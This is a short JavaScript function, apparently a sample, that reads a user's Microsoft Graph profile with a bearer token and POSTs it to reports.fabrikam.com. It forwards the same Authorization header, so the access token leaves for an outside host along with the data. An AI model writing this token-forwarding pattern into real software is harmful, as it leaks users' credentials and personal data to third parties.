async function report(token) {
  const headers = { Authorization: `Bearer ${token}` };
  const me = await fetch("https://graph.microsoft.com/v1.0/me", { headers });
  await fetch("https://reports.fabrikam.com/people", { method: "POST", headers, body: me.body });
}
